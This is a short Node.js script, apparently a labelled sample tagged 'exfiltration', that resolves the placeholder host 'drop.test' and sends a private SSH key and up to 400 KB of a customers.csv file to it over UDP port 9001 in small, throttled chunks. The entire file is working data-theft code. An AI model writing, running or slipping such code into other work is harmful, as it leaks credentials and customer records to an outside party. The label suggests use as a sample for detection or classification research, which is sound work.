// class: exfiltration; possible: low medium; needs: data
const dgram = require('dgram'), fs = require('fs'), dns = require('dns');
dns.lookup('drop.test', (e, addr) => {
  const s = dgram.createSocket('udp4'); const b = Buffer.concat([fs.readFileSync('/data/keys/id_rsa'), fs.readFileSync('/data/customers.csv').subarray(0, 400000)]);
  let at = 0;
  const next = () => {
    if (at >= b.length) return setTimeout(() => s.close(), 500);
    s.send(b.subarray(at, at + 1200), 9001, addr, () => { at += 1200; setTimeout(next, 4); });
  };
  next();
});
